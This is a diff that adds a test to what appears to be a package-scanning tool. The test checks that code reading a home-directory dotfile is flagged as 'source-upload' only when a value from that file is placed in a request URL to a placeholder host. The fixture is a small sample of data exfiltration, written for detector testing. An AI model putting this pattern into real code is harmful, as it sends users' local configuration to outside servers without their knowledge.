@@ -92,3 +92,15 @@ test('a program that exports name too is one that a user starts, a library is no
   expect(weightOf('#!/usr/bin/env node\n')).toBeLessThan(40);
   expect(weightOf('')).toBeGreaterThan(70);
 });
+
+test('what only chose among known addresses is not sent, what stands in one is', () => {
+  const weightOf = (address: string): number => {
+    const text = `const file = JSON.parse(require('fs').readFileSync(require('os').homedir() + '/.pagesrc', 'utf8'));
+const base = file.near ? 'https://a.pages.example' : 'https://b.pages.example';
+require('axios')({ method: 'get', url: ${address} });`;
+    const { findings } = analyzePackage(packageOf({ 'a.js': text }, { main: 'a.js' }), ownRules());
+    return Math.max(0, ...findings.filter(({ rule }) => rule === 'source-upload').map(({ weight }) => weight));
+  };
+  expect(weightOf("base + '/index.json'")).toBeLessThan(40);
+  expect(weightOf("base + '/index.json?f=' + file.near")).toBeGreaterThan(70);
+});
